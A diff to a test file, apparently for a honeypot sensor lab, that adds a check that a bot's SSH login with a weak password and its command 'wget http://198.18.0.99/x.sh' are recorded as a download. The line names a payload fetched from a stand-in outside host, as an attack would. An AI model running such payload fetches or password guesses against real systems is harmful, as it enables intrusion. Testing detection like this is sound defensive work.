@@ -118,6 +118,14 @@ def test_ssh_password_guesses_are_recorded_and_a_weak_one_gets_a_shell(lab, sens
     assert recorded(sensor, "login", lambda e: (e["detail"], e["dst_ip"]) == ("root:not-this-one", LINUX))
     assert recorded(sensor, "login", lambda e: (e["detail"], e["dst_ip"]) == ("root:123456", LINUX))
     assert recorded(sensor, "command", lambda e: "uname -s" in (e["detail"] or ""))
+    # what a bot fetches is stored as a download (never fetched: the fake wget fails as a firewalled host's)
+    fetch = attacker(
+        lab, "sshpass", "-p", "123456", "ssh", *ssh, f"root@{LINUX}", "wget http://198.18.0.99/x.sh"
+    )
+    assert "Connecting to 198.18.0.99:80... failed: Connection refused." in fetch.stdout
+    assert recorded(
+        sensor, "download", lambda e: (e["detail"], e["dst_ip"]) == ("http://198.18.0.99/x.sh", LINUX)
+    )
 
 
 def test_an_ftp_client_lists_and_uploads_in_passive_mode(lab, sensor):
